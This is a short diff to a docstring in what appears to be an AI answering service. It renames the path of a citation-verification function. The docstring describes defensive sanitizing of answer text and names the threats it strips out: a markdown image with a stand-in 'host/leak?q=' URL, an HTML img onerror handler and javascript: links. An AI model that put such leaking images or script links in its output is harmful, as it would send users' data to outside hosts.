@@ -3,7 +3,7 @@
 Articles and models can carry markup: a markdown image (``![x](http://host/leak?q=…)``,
 fetched by any markdown renderer as soon as it is shown), raw HTML (``<img onerror=…>``)
 or a ``javascript:`` link. Every answer passes :func:`plain_text` sentence by sentence
-(:func:`assistant.citations.verify_citations`), so the UI, the widget, ``/v1`` and the
+(:func:`assistant.answering.citations.verify_citations`), so the UI, the widget, ``/v1`` and the
 OpenAI-compatible route all deliver the same clean text. Citation markers ``[n]`` stay.
 """
 
